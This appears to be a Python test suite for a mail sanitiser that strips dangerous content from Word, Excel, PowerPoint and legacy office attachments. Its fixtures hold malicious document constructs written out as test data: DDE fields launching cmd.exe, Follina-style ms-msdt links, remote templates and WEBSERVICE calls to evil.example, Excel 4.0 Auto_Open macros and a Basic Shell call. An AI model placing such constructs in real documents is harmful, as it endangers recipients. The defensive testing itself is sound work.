#!/usr/bin/env python3
"""mugai mail on Word, Excel and PowerPoint attachments (THREATS.md 45-56).

Each case mails one generated document (test/gen/office.py) and asserts what
a user sees: the message is sanitised, the attachment arrives rebuilt under
its macro-free name (.docm -> .docx), the hostile part, relationship or
string is gone from the package, and LibreOffice still opens the output and
shows the document's text or the sheet's values (Japanese included).
Legacy formats (.doc, .xls, .odt, RTF) are converted with LibreOffice: a
sandboxed worker may not start programs, so it asks the supervisor, whose
service child (own network namespace) runs mg_libreoffice_run; these cases
go through that path like every other.
"""
import io
import os
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from mugaitest import (SRCDIR, Suite, assert_absent, check, check_sanitised,  # noqa: E402
                       check_withheld, run_mail)
import mime  # noqa: E402  (test/gen)
import office as O  # noqa: E402
from mime import EICAR, marker  # noqa: E402

DATA = os.path.join(SRCDIR, 'test', 'data', 'office')
NO_SANDBOX = {}   # legacy conversions run in the supervisor's service child
DOCX = O.OXD + 'wordprocessingml.document'
XLSX = O.OXD + 'spreadsheetml.sheet'
PPTX = O.OXD + 'presentationml.presentation'

S = Suite('office')


# --- helpers ----------------------------------------------------------------

def mail(name, data, filename, conf=None, ctype='application/octet-stream'):
    msg = mime.mixed(name, [mime.text_part('添付をご確認ください。' + name),
                            mime.attachment(data, ctype, filename)])
    return run_mail(msg, conf=conf)


def delivered(res, filename, mime_type):
    """The rebuilt attachment: its report line and its bytes."""
    check_sanitised(res)
    parts = [p for p in res.parts() if '/' not in p.get('path', '')
             and p.get('action') == 'converted' and p.get('output_filename') == filename]
    check(parts, 'no converted part named %r; parts: %r' % (filename, [
        (p.get('filename'), p.get('action'), p.get('reason'), p.get('detail'))
        for p in res.parts()]))
    leaves = [p for p in res.leaves() if p.get_filename() == filename]
    check(len(leaves) == 1, 'attachment %r not delivered (got %r)' % (filename, res.output_filenames()))
    check(leaves[0].get_content_type() == mime_type, 'delivered as %s' % leaves[0].get_content_type())
    return parts[0], leaves[0].get_payload(decode=True)


def unzip(data):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        check(names[0] == '[Content_Types].xml', 'first entry is %r' % names[0])
        return {n: z.read(n) for n in names}


def assert_package_lacks(files, *needles, names=()):
    for n in names:
        check(not any(re.search(n, f, re.I) for f in files), 'part matching %r kept: %r' % (n, list(files)))
    blob = b'\n'.join(files.values())
    for s in needles:
        check(O.b(s) not in blob, '%r still in the rebuilt package' % s)


def soffice_text(data, ext):
    """What LibreOffice shows of DATA: text of a document, CSV of a sheet,
    text of the PDF of a presentation."""
    soffice = shutil.which('soffice')
    check(soffice is not None, 'soffice (libreoffice-*-nogui) is needed to check the output')
    tmp = tempfile.mkdtemp(prefix='mugai-office-check-')
    try:
        src = os.path.join(tmp, 'out' + ext)
        with open(src, 'wb') as f:
            f.write(data)
        target = {'.docx': 'txt:Text (encoded):UTF8', '.xlsx': 'csv:Text - txt - csv (StarCalc):44,34,76',
                  '.pptx': 'pdf'}[ext]
        subprocess.run([soffice, '--headless', '--norestore',
                        '-env:UserInstallation=file://' + os.path.join(tmp, 'profile'),
                        '--convert-to', target, '--outdir', tmp, src],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=180)
        out = os.path.join(tmp, 'out.' + {'.docx': 'txt', '.xlsx': 'csv', '.pptx': 'pdf'}[ext])
        check(os.path.exists(out), 'LibreOffice could not open the rebuilt %s' % ext)
        if ext == '.pptx':
            return subprocess.run(['pdftotext', out, '-'], stdout=subprocess.PIPE,
                                  check=True).stdout.decode('utf-8')
        return open(out, 'rb').read().decode('utf-8-sig')
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def shows(data, ext, *texts):
    text = soffice_text(data, ext)
    flat = re.sub(r'\s+', '', text)
    for t in texts:
        check(re.sub(r'\s+', '', t) in flat, '%r not shown by LibreOffice; got %r' % (t, text[:300]))


def mail_docx_with_part(name, body, rel_id, rel_type, target, ctype, data, filename):
    """Mail a .docx whose document points (REL_ID, REL_TYPE) at word/TARGET
    holding DATA; the message result, the report part and the output bytes."""
    ext = target.rsplit('.', 1)[1]
    docx = O.docx(body, doc_rels=[(rel_id, O.RT + rel_type, target)], defaults=[(ext, ctype)],
                  parts=[('word/' + target, data)])
    res = mail(name, docx, filename)
    part, out = delivered(res, filename, DOCX)
    return res, part, out


def reason(part, pattern):
    check(re.search(pattern, (part.get('reason') or '') + ' ' + (part.get('detail') or '')),
          'reason %r / detail %r does not match %r' % (part.get('reason'), part.get('detail'), pattern))


# --- Word -------------------------------------------------------------------

@S.case
def test_docm_vba_and_custom_ui(name='docm_vba'):
    """THREATS 45/46/49: VBA project, vbaData, customUI with onLoad."""
    text = 'マクロ付き文書 ' + O.JA
    custom_ui = ('<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
                 'onLoad="AutoRun_%s"/>' % 'X')
    data = O.docx(O.para(text), main=O.DOCM_MAIN,
                  doc_rels=[('rId9', O.MSRT + 'vbaProject', 'vbaProject.bin')],
                  defaults=[('bin', O.VBA_TYPE)],
                  overrides=[('word/vbaData.xml', 'application/vnd.ms-word.vbaData+xml'),
                             ('customUI/customUI14.xml', 'application/xml')],
                  parts=[('word/vbaProject.bin', O.vba_project(name)),
                         ('word/_rels/vbaProject.bin.rels', O.rels([
                             ('rId1', O.MSRT + 'wordVbaData', 'vbaData.xml')])),
                         ('word/vbaData.xml', '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'),
                         ('customUI/customUI14.xml', custom_ui)],
                  root_rels=[('rIdUI', 'http://schemas.microsoft.com/office/2007/relationships/'
                              'ui/extensibility', 'customUI/customUI14.xml')])
    res = mail(name, data, '見積書.docm')
    part, out = delivered(res, '見積書.docx', DOCX)
    reason(part, 'macros removed')
    files = unzip(out)
    assert_package_lacks(files, 'macroEnabled', 'vbaProject', 'vbaData', 'onLoad', 'AutoRun',
                         names=(r'\.bin$', 'vba', 'customUI'))
    check(O.DOCX_MAIN.encode() in files['[Content_Types].xml'], 'content type not macro-free')
    assert_absent(res, marker(name))
    shows(out, '.docx', text)


@S.case
def test_macro_behind_docx_name(name='docx_renamed_docm'):
    """THREATS 45: a docm renamed .docx, its type declared as a docx."""
    text = '普通の文書のふり'
    data = O.docx(O.para(text), main=O.DOCM_MAIN,
                  doc_rels=[('rId9', O.MSRT + 'vbaProject', 'vbaProject.bin')],
                  defaults=[('bin', O.VBA_TYPE)],
                  parts=[('word/vbaProject.bin', O.vba_project(name))])
    res = mail(name, data, '報告書.docx', ctype=DOCX)
    part, out = delivered(res, '報告書.docx', DOCX)
    reason(part, 'macros removed')
    assert_package_lacks(unzip(out), 'vbaProject', 'macroEnabled', names=(r'\.bin$',))
    assert_absent(res, marker(name))


@S.case
def test_remote_template(name='attached_template'):
    """THREATS 48: attachedTemplate pointing at a remote .dotm."""
    text = 'テンプレート参照 ' + O.JA
    data = O.docx(O.para(text), settings='<w:attachedTemplate r:id="rIdT"/>',
                  settings_rels=[('rIdT', O.RT + 'attachedTemplate',
                                  'http://evil.example/template.dotm', 'External')])
    res = mail(name, data, 'template.docx')
    part, out = delivered(res, 'template.docx', DOCX)
    reason(part, 'external|objects')
    assert_package_lacks(unzip(out), 'attachedTemplate', 'evil.example', 'External')
    shows(out, '.docx', text)


@S.case
def test_follina_ole_links(name='follina'):
    """THREATS 49/52: OLE object linked to mhtml: and ms-msdt: targets."""
    text = '本文は残ります ' + O.JA
    body = (O.para(text) +
            '<w:p><w:r><w:object><v:shape id="s1" style="width:1pt;height:1pt"/>'
            '<o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="s1" r:id="rIdO"/>'
            '</w:object></w:r></w:p>')
    data = O.docx(body, doc_rels=[
        ('rIdO', O.RT + 'oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html',
         'External'),
        ('rIdM', O.RT + 'oleObject', 'ms-msdt:/id PCWDiagnostic /skip force', 'External')])
    res = mail(name, data, 'follina.docx')
    part, out = delivered(res, 'follina.docx', DOCX)
    reason(part, 'external|objects')
    assert_package_lacks(unzip(out), 'mhtml', 'ms-msdt', 'OLEObject', 'evil.example', 'oleObject')
    shows(out, '.docx', text)


@S.case
def test_altchunk_rtf(name='altchunk'):
    """THREATS 50: altChunk carrying RTF with an OLE object."""
    text = 'アルトチャンクの外の本文'
    rtf = (b'{\\rtf1{\\object\\objemb{\\*\\objdata ' + O.ole_packager(name).hex().encode() +
           b'}}}')
    data = O.docx(O.para(text) + '<w:altChunk r:id="rIdA"/>',
                  doc_rels=[('rIdA', O.RT + 'aFChunk', 'afchunk.rtf')],
                  defaults=[('rtf', 'application/rtf')], parts=[('word/afchunk.rtf', rtf)])
    res = mail(name, data, 'altchunk.docx')
    part, out = delivered(res, 'altchunk.docx', DOCX)
    assert_package_lacks(unzip(out), 'altChunk', 'aFChunk', 'objdata', names=(r'\.rtf$',))
    assert_absent(res, marker(name))
    shows(out, '.docx', text)


def _run(t):
    return '<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % t


def _fld(kind):
    return '<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind


@S.case
def test_dde_fields(name='dde_fields'):
    """THREATS 51: DDEAUTO split across runs, DDE in fldSimple, QUOTE-built DDE;
    a PAGE field stays."""
    body = ('<w:p>' + _fld('begin') + _run(' DDE') + _run('AUTO c:\\\\windows\\\\system32\\\\cmd.exe ')
            + _run('"/k calc.exe" ') + _fld('separate')
            + '<w:r><w:t>フィールド結果一</w:t></w:r>' + _fld('end') + '</w:p>'
            '<w:p><w:fldSimple w:instr=\' DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/c notepad" \'>'
            '<w:r><w:t>フィールド結果二</w:t></w:r></w:fldSimple></w:p>'
            '<w:p>' + _fld('begin') + _run('QUOTE ') + _fld('begin') + _run('= 68') + _fld('separate')
            + '<w:r><w:t>D</w:t></w:r>' + _fld('end') + _run(' 68 69') + _fld('separate')
            + '<w:r><w:t>フィールド結果三</w:t></w:r>' + _fld('end') + '</w:p>'
            '<w:p>' + _fld('begin') + _run(' PAGE ') + _fld('separate') + '<w:r><w:t>1</w:t></w:r>'
            + _fld('end') + '</w:p>' + O.para(O.JA))
    res = mail(name, O.docx(body), 'dde.docx')
    part, out = delivered(res, 'dde.docx', DOCX)
    reason(part, 'fields|field')
    files = unzip(out)
    assert_package_lacks(files, 'DDE', 'cmd.exe', 'calc.exe', 'notepad', 'QUOTE', 'fldSimple')
    doc = files['word/document.xml'].decode()
    check(doc.count('<w:instrText') == 1 and 'PAGE' in doc, 'the PAGE field did not survive: %r' % doc[:400])
    shows(out, '.docx', 'フィールド結果一', 'フィールド結果二', 'フィールド結果三', O.JA)


@S.case
def test_hyperlinks_unc_file(name='hyperlinks'):
    """THREATS 49: hyperlinks to file:// and UNC targets keep their text."""
    body = ('<w:p><w:hyperlink r:id="rIdH1"><w:r><w:t>共有フォルダの資料</w:t></w:r></w:hyperlink></w:p>'
            '<w:p><w:hyperlink r:id="rIdH2"><w:r><w:t>ファイルへのリンク</w:t></w:r></w:hyperlink></w:p>'
            '<w:p>' + _fld('begin') + _run(' HYPERLINK "\\\\\\\\evil-host\\\\share\\\\x.docx" ')
            + _fld('separate') + '<w:r><w:t>フィールドのリンク</w:t></w:r>' + _fld('end') + '</w:p>')
    data = O.docx(body, doc_rels=[
        ('rIdH1', O.RT + 'hyperlink', '\\\\evil-host\\share\\budget.xlsx', 'External'),
        ('rIdH2', O.RT + 'hyperlink', 'file://evil-host/share/a.docx', 'External')])
    res = mail(name, data, 'links.docx')
    part, out = delivered(res, 'links.docx', DOCX)
    assert_package_lacks(unzip(out), 'evil-host', 'file:', 'rIdH1', 'rIdH2', 'HYPERLINK')
    shows(out, '.docx', '共有フォルダの資料', 'ファイルへのリンク', 'フィールドのリンク')


@S.case
def test_ole_packager_embedding(name='ole_packager'):
    """THREATS 52: an OLE Packager object carrying an executable."""
    text = '埋め込みオブジェクトの前の本文'
    body = (O.para(text) +
            '<w:p><w:r><w:object><v:shape id="s2" style="width:20pt;height:20pt"/>'
            '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s2" r:id="rIdE"/>'
            '</w:object></w:r></w:p>')
    res, part, out = mail_docx_with_part(name, body, 'rIdE', 'oleObject', 'embeddings/oleObject1.bin',
                                         O.OXD + 'oleObject', O.ole_packager(name), 'packager.docx')
    reason(part, 'objects')
    assert_package_lacks(unzip(out), 'OLEObject', 'Package', names=('embeddings',))
    assert_absent(res, marker(name))
    shows(out, '.docx', text)


@S.case
def test_embedded_virus_withholds(name='embedded_eicar'):
    """An embedded object carrying a virus: the whole message is withheld."""
    data = O.docx(O.para('ウイルス入り'), doc_rels=[('rIdE', O.RT + 'package', 'embeddings/x.bin')],
                  defaults=[('bin', 'application/vnd.openxmlformats-officedocument.package')],
                  parts=[('word/embeddings/x.bin', EICAR)])
    res = mail(name, data, 'virus.docx')
    check_withheld(res, virus=True, reason_re='virus|ウイルス')
    assert_absent(res, EICAR)


@S.case
def test_image_rebuilt(name='docx_image'):
    """THREATS 53: an image inside the package goes through the image filter:
    its text chunk (the marker) never reaches the output."""
    text = '写真付きの報告 ' + O.JA
    body = (O.para(text) +
            '<w:p><w:r><w:pict><v:shape id="i1" style="width:10pt;height:10pt">'
            '<v:imagedata r:id="rIdI"/></v:shape></w:pict></w:r></w:p>')
    res, part, out = mail_docx_with_part(name, body, 'rIdI', 'image', 'media/image1.png', 'image/png',
                                         mime.make_png(name), 'photo.docx')
    members = [p for p in res.parts() if p.get('path', '').endswith('word/media/image1.png')]
    check(members, 'the image is not in the report: %r' % [p.get('path') for p in res.parts()])
    assert_absent(res, marker(name))
    shows(out, '.docx', text)


@S.case
def test_doctype_bomb(name='billion_laughs'):
    """A part with a DOCTYPE (billion laughs): the document is removed."""
    bomb = ('<!DOCTYPE w:document [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>')
    data = O.docx(O.para('&d;'), doctype=bomb)
    res = mail(name, data, 'bomb.docx')
    check_sanitised(res)
    p = res.find_part(filename='bomb.docx')
    check(p is not None and p.get('action') == 'removed', 'part %r' % p)
    reason(p, 'DOCTYPE')
    check(not any(n.endswith('.docx') for n in res.output_filenames()), 'a .docx was delivered')


@S.case
def test_zip_bomb_limit(name='zip_bomb'):
    """A part that unpacks far beyond [office] limits: removed, reason limit."""
    data = O.docx(O.para('爆弾'), parts=[('word/padding.xml', b'<a>' + b' ' * (64 << 20) + b'</a>')])
    res = mail(name, data, 'zipbomb.docx')
    check_sanitised(res)
    p = res.find_part(filename='zipbomb.docx')
    check(p is not None and p.get('action') == 'removed', 'part %r' % p)
    reason(p, 'limit')


@S.case
def test_encrypted_docx(name='encrypted_docx'):
    """THREATS 55: a password-protected package is withheld."""
    res = mail(name, O.encrypted_ooxml(name), '機密.docx')
    check_withheld(res, reason_re='encrypt|暗号')
    assert_absent(res, marker(name))


@S.case
def test_activex_and_subdocument(name='activex'):
    """THREATS 49/52: an ActiveX control and a subDocument pulled from a share."""
    text = 'コントロールの横の本文 ' + O.JA
    body = (O.para(text) + '<w:p><w:r><w:object><w:control r:id="rIdX" w:name="CommandButton1"/>'
            '</w:object></w:r></w:p><w:p><w:subDoc r:id="rIdS"/></w:p>')
    ax_xml = ('<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
              'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" '
              'r:id="rId1" xmlns:r="%s"/>' % O.R)
    data = O.docx(body, doc_rels=[
        ('rIdX', O.RT + 'control', 'activeX/activeX1.xml'),
        ('rIdS', O.RT + 'subDocument', 'file://evil-host/share/sub.docx', 'External')],
        overrides=[('word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml')],
        defaults=[('bin', 'application/vnd.ms-office.activeX')],
        parts=[('word/activeX/activeX1.xml', ax_xml),
               ('word/activeX/_rels/activeX1.xml.rels', O.rels([
                   ('rId1', O.MSRT + 'activeXControlBinary', 'activeX1.bin')])),
               ('word/activeX/activeX1.bin', O.vba_project(name))])
    res = mail(name, data, 'activex.docx')
    part, out = delivered(res, 'activex.docx', DOCX)
    reason(part, 'objects')
    assert_package_lacks(unzip(out), 'w:control', 'subDoc', 'evil-host', 'ocx', names=('activeX',))
    assert_absent(res, marker(name))
    shows(out, '.docx', text)


@S.case
def test_xlsb_goes_to_libreoffice(name='xlsb'):
    """THREATS 47: a binary workbook is never rebuilt part by part: it goes
    through LibreOffice (which makes an empty sheet of this fake one) and
    what comes back is rebuilt as .xlsx."""
    data = O.package([
        ('[Content_Types].xml', O.content_types(
            [('xl/workbook.bin', 'application/vnd.ms-excel.sheet.binary.macroEnabled.main')],
            [('bin', 'application/vnd.ms-excel.sheetBinary')])),
        ('_rels/.rels', O.rels([('rId1', O.RT + 'officeDocument', 'xl/workbook.bin')])),
        ('xl/workbook.bin', b'\x83\x01\x00' + marker(name))])
    res = mail(name, data, '集計.xlsb', conf=NO_SANDBOX)
    check_sanitised(res)
    p = res.find_part(filename='集計.xlsb')
    check(p is not None and p.get('action') in ('converted', 'removed'), 'part %r' % p)
    reason(p, 'xlsb by LibreOffice|LibreOffice could not')
    if p.get('action') == 'converted':
        _, out = delivered(res, '集計.xlsx', XLSX)
        assert_package_lacks(unzip(out), 'binary', names=(r'\.bin$',))
    assert_absent(res, marker(name))


# --- Excel ------------------------------------------------------------------

@S.case
def test_xlsx_external_link_dde(name='xlsx_dde'):
    """THREATS 49/51: externalLink with ddeService, a DDE formula, a
    WEBSERVICE formula; cached values stay."""
    ext_link = ('<externalLink xmlns="%s"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
                '<ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>' % O.S)
    rows = ('<row r="1">' + O.cell_inline('A1', '予算額') + '<c r="B1"><v>1200000</v></c></row>'
            '<row r="2">' + O.cell_inline('A2', O.JA) + '<c r="B2"><f>cmd|\' /C calc\'!A0</f><v>777</v></c>'
            '<c r="C2"><f>[1]!A0</f><v>888</v></c><c r="D2"><f>_xlfn.WEBSERVICE("http://evil.example/")</f>'
            '<v>999</v></c><c r="E2"><f>SUM(B1,1)</f><v>1200001</v></c></row>')
    data = O.xlsx([('予算', rows)],
                  workbook_extra='<externalReferences><externalReference r:id="rIdX"/></externalReferences>',
                  wb_rels=[('rIdX', O.RT + 'externalLink', 'externalLinks/externalLink1.xml')],
                  overrides=[('xl/externalLinks/externalLink1.xml', O.OXD + 'spreadsheetml.externalLink+xml')],
                  parts=[('xl/externalLinks/externalLink1.xml', ext_link)])
    res = mail(name, data, '予算.xlsx')
    part, out = delivered(res, '予算.xlsx', XLSX)
    reason(part, 'formula|external')
    files = unzip(out)
    assert_package_lacks(files, 'ddeService', 'cmd|', 'externalReference', 'WEBSERVICE', 'evil.example',
                         names=('externalLink',))
    check(b'SUM(B1,1)' in files['xl/worksheets/sheet1.xml'], 'a harmless formula was removed')
    shows(out, '.xlsx', '予算額', '1200000', O.JA, '777', '888', '999', '1200001')


@S.case
def test_xlsm_xlm_macro_sheet(name='xlm_auto_open'):
    """THREATS 47: an Excel 4.0 macro sheet and _xlnm.Auto_Open."""
    rows = '<row r="1">' + O.cell_inline('A1', '集計表 ' + O.JA) + '<c r="B1"><v>31415</v></c></row>'
    macro = '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c><c r="A2"><f>HALT()</f></c></row>'
    names = ('<definedNames><definedName name="_xlnm.Auto_Open" localSheetId="1" hidden="1">'
             'Macro1!$A$1</definedName><definedName name="Auto_Open_2">Macro1!$A$1</definedName>'
             '<definedName name="対象範囲">集計!$A$1:$B$1</definedName></definedNames>')
    data = O.xlsx([('集計', rows)], main=O.XLSM_MAIN, macro_sheets=[('Macro1', macro)],
                  workbook_extra=names, defaults=[('bin', O.VBA_TYPE)],
                  wb_rels=[('rIdV', O.MSRT + 'vbaProject', 'vbaProject.bin')],
                  parts=[('xl/vbaProject.bin', O.vba_project(name))])
    res = mail(name, data, '集計.xlsm')
    part, out = delivered(res, '集計.xlsx', XLSX)
    reason(part, 'macros removed')
    files = unzip(out)
    assert_package_lacks(files, 'Auto_Open', 'Macro1', 'EXEC', 'macroEnabled', 'vbaProject',
                         names=('macrosheet', r'\.bin$'))
    check('対象範囲'.encode() in files['xl/workbook.xml'], 'a harmless defined name was removed')
    shows(out, '.xlsx', '集計表', O.JA, '31415')


# --- PowerPoint -------------------------------------------------------------

@S.case
def test_pptm_vba_and_actions(name='pptm'):
    """THREATS 45/49: pptm with VBA, a click action running a program, a
    hyperlink to a UNC path."""
    text = 'スライドの本文 ' + O.JA
    click = '<a:hlinkClick r:id="rIdL" action="ppaction://program"/>'
    data = O.pptx(O.slide_shape(text, click), main=O.PPTM_MAIN,
                  pres_rels=[('rIdV', O.MSRT + 'vbaProject', 'vbaProject.bin')],
                  slide_rels=[('rIdL', O.RT + 'hyperlink', '\\\\evil-host\\share\\run.exe', 'External')],
                  defaults=[('bin', O.VBA_TYPE)], parts=[('ppt/vbaProject.bin', O.vba_project(name))])
    res = mail(name, data, '説明資料.pptm')
    part, out = delivered(res, '説明資料.pptx', PPTX)
    reason(part, 'macros removed')
    assert_package_lacks(unzip(out), 'vbaProject', 'macroEnabled', 'hlinkClick', 'ppaction', 'evil-host',
                         names=(r'\.bin$',))
    assert_absent(res, marker(name))
    shows(out, '.pptx', text)


# --- legacy formats (LibreOffice inside mugai) --------------------------------

def _legacy(filename, sample, out_name, mime_type, ext, *texts):
    def run(name):
        data = open(os.path.join(DATA, sample), 'rb').read() if isinstance(sample, str) else sample(name)
        res = mail(name, data, filename, conf=NO_SANDBOX)
        part, out = delivered(res, out_name, mime_type)
        reason(part, 'converted|macros removed')
        files = unzip(out)
        assert_package_lacks(files, 'vbaProject', 'macroEnabled', 'Shell(', 'calc.exe', 'oleObject',
                             names=(r'\.bin$', 'embeddings', 'Basic'))
        assert_absent(res, marker(name))
        shows(out, ext, *texts)
    return run


def _rtf_with_object(name):
    return (b'{\\rtf1\\ansi\\ansicpg932{\\fonttbl{\\f0 MS Mincho;}}\\f0 RTF-sentinel \\uc1\\u20196?\\u21644?\\par '
            b'{\\object\\objemb\\objw100\\objh100{\\*\\objclass Package}{\\*\\objdata ' +
            O.ole_packager(name).hex().encode() + b'}{\\result object-result}}\\par}')


def _odt_with_basic(name):
    """The committed .odt with a Basic library and an event that runs it on open."""
    src = open(os.path.join(DATA, 'legacy.odt'), 'rb').read()
    module = ('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE script:module PUBLIC '
              '"-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">'
              '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" '
              'script:language="StarBasic">Sub Main\nShell("calc.exe")\nREM %s\nEnd Sub</script:module>'
              % marker(name).hex())
    lib = ('<?xml version="1.0" encoding="UTF-8"?><library:library xmlns:library="http://openoffice.org/2000/library" '
           'library:name="Standard" library:readonly="false" library:passwordprotected="false">'
           '<library:element library:name="Module1"/></library:library>')
    libs = ('<?xml version="1.0" encoding="UTF-8"?><library:libraries xmlns:library="http://openoffice.org/2000/library" '
            'xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" '
            'library:link="false"/></library:libraries>')
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == 'META-INF/manifest.xml':
                data = data.replace(b'</manifest:manifest>', b''.join(
                    b'<manifest:file-entry manifest:full-path="%s" manifest:media-type="text/xml"/>' % p
                    for p in (b'Basic/script-lc.xml', b'Basic/Standard/script-lb.xml',
                              b'Basic/Standard/Module1.xml')) + b'</manifest:manifest>')
            z.writestr(item, data, compress_type=zipfile.ZIP_STORED if item.filename == 'mimetype'
                       else zipfile.ZIP_DEFLATED)
        z.writestr('Basic/script-lc.xml', libs)
        z.writestr('Basic/Standard/script-lb.xml', lib)
        z.writestr('Basic/Standard/Module1.xml', module)
    return out.getvalue()


S.add('legacy_doc', _legacy('議事録.doc', 'legacy.doc', '議事録.docx', DOCX, '.docx',
                            'legacy-doc-sentinel', O.JA), 'legacy_doc')
S.add('legacy_xls', _legacy('会員表.xls', 'legacy.xls', '会員表.xlsx', XLSX, '.xlsx',
                            'legacy-xls-sentinel', '12345'), 'legacy_xls')
S.add('legacy_rtf_object', _legacy('通知.rtf', _rtf_with_object, '通知.docx', DOCX, '.docx',
                                   'RTF-sentinel'), 'legacy_rtf_object')
S.add('odt_basic_macro', _legacy('案内.odt', _odt_with_basic, '案内.docx', DOCX, '.docx',
                                 'legacy-doc-sentinel'), 'odt_basic_macro')


def _encrypted_legacy(sample, mark, patch):
    """SAMPLE from test/data/office changed by PATCH(data, offset of MARK) into
    what an encrypted Word or Excel file carries."""
    def run(name):
        data = bytearray(open(os.path.join(DATA, sample), 'rb').read())
        at = data.find(mark, 512)
        check(at > 0, 'no %r in %s' % (mark, sample))
        patch(data, at)
        res = mail(name, bytes(data), 'パスワード付き.' + sample.rsplit('.', 1)[1], conf=NO_SANDBOX)
        check_withheld(res, reason_re='encrypt|暗号')
    return run


def _set_fencrypted(data, fib):
    data[fib + 0x0B] |= 0x01          # FIB flags: fEncrypted (0x0100)


def _filepass_after_bof(data, bof):
    data[bof + 20:bof + 22] = b'\x2f\x00'   # the record after BOF becomes FILEPASS


# THREATS 55: a .doc whose FIB says fEncrypted; an .xls with FILEPASS after BOF
S.add('encrypted_doc', _encrypted_legacy('legacy.doc', b'\xec\xa5', _set_fencrypted), 'encrypted_doc')
S.add('encrypted_xls', _encrypted_legacy('legacy.xls', b'\x09\x08\x10\x00\x00\x06\x05\x00',
                                         _filepass_after_bof), 'encrypted_xls')

@S.case
def test_ichitaro_removed(name='ichitaro'):
    """THREATS 56: Ichitaro has no open converter: removed with a clear reason."""
    data = O.compound_file([('DocumentText', marker(name)), ('JSRV_SegmentList', b'\x00' * 64)])
    res = mail(name, data, '回覧.jtd')
    check_sanitised(res)
    p = res.find_part(filename='回覧.jtd')
    check(p is not None and p.get('action') == 'removed', 'part %r' % p)
    reason(p, 'Ichitaro|no sanitiser|converter')
    assert_absent(res, marker(name))


def legacy_removed(name, office_conf, filename, pattern):
    """Mail the committed .doc with [office] OFFICE_CONF: it must be removed,
    with a reason matching PATTERN, and nothing delivered."""
    data = open(os.path.join(DATA, 'legacy.doc'), 'rb').read()
    res = mail(name, data, filename, conf=dict(NO_SANDBOX, office=office_conf))
    check_sanitised(res)
    p = res.find_part(filename=filename)
    check(p is not None and p.get('action') == 'removed', 'part %r' % p)
    reason(p, pattern)
    check(not res.output_filenames(), 'something was delivered: %r' % res.output_filenames())


@S.case
def test_libreoffice_missing(name='no_soffice'):
    """No LibreOffice: legacy files are removed with a reason, never passed."""
    legacy_removed(name, {'libreoffice': '/nonexistent/soffice'}, '古い文書.doc',
                   'LibreOffice is not installed')


@S.case
def test_libreoffice_timeout_kills_group(name='soffice_hangs'):
    """A converter that hangs (and leaves a child behind) is killed with its
    process group at [office] libreoffice_timeout; the file is removed."""
    tmp = tempfile.mkdtemp(prefix='mugai-fake-soffice-')
    try:
        fake = os.path.join(tmp, 'soffice')
        with open(fake, 'w') as f:
            f.write('#!/bin/sh\n( sleep 4242 ) &\nsleep 4242\n')
        os.chmod(fake, 0o755)
        os.chmod(tmp, 0o755)   # run as root, mugai starts it as nobody
        legacy_removed(name, {'libreoffice': fake, 'libreoffice_timeout': '5'}, '止まる.doc',
                       'limit|libreoffice_timeout')
        left = subprocess.run(['pgrep', '-f', 'sleep 4242'], stdout=subprocess.PIPE).stdout
        check(not left.strip(), 'processes of the killed converter remain: %r' % left)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


# --- the element and attribute allow-list -------------------------------------

@S.case
def test_online_video_html(name='web_video'):
    """Word's online video (wp15:webVideoPr) carries HTML with a script and an
    external iframe: outside the element allow-list, it goes; the poster
    picture and the text stay."""
    text = '動画付きの案内 ' + O.JA
    data = O.docx_web_video(text, mime.make_png(name, text_chunk=False))
    res = mail(name, data, 'video.docx')
    part, out = delivered(res, 'video.docx', DOCX)
    files = unzip(out)
    assert_package_lacks(files, 'script', 'iframe', 'evil.example', 'embeddedHtml', 'webVideoPr',
                         'videoFile', 'hlinkClick', 'extLst')
    check('word/media/image1.png' in files, 'the poster picture is gone: %r' % list(files))
    check(b'r:embed="rIdImg"' in files['word/document.xml'], 'the picture lost its image')
    reason(part, 'external')
    shows(out, '.docx', text)


@S.case
def test_schema_locations_unc_file(name='schema_paths'):
    """UNC and file:// schema locations in settings.xml (w:attachedSchema,
    sl:manifestLocation, sl:schemaLocation) do not reach the output."""
    text = 'スキーマ付きの文書 ' + O.JA
    res = mail(name, O.docx_schema_paths(text), 'schema.docx')
    part, out = delivered(res, 'schema.docx', DOCX)
    files = unzip(out)
    check('word/settings.xml' in files, 'settings.xml left out: %r' % list(files))
    assert_package_lacks(files, 'attacker-host', 'file:', 'attachedSchema', 'schemaLibrary',
                         'manifestLocation', 'schemaLocation')
    reason(part, 'external')
    shows(out, '.docx', text)


if __name__ == '__main__':
    S.main()
